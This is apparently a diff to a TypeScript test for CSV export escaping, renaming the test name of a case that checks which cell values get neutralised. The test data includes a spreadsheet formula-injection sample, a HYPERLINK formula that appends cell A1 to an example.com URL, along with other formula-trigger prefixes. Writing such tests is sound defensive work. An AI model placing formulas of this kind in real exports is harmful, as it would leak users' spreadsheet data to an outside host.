@@ -5,7 +5,7 @@ import { readWorks, worksFile } from './works.ts';
 
 const category = { key: 'Novel', fields: [{ key: 'title' }] } as const;
 
-it('marks a text that a spreadsheet would run, and nothing else', () => {
+it('escapes only text that a spreadsheet would run', () => {
   const formula = '=HYPERLINK("https://example.com/?"&A1)';
   const rows = parse(
     toCsv([[formula, '@A1', '+1', '-1', '\t=1', '\n=1', ' =1', '＝1', '1984', 'A = B', -1]]),
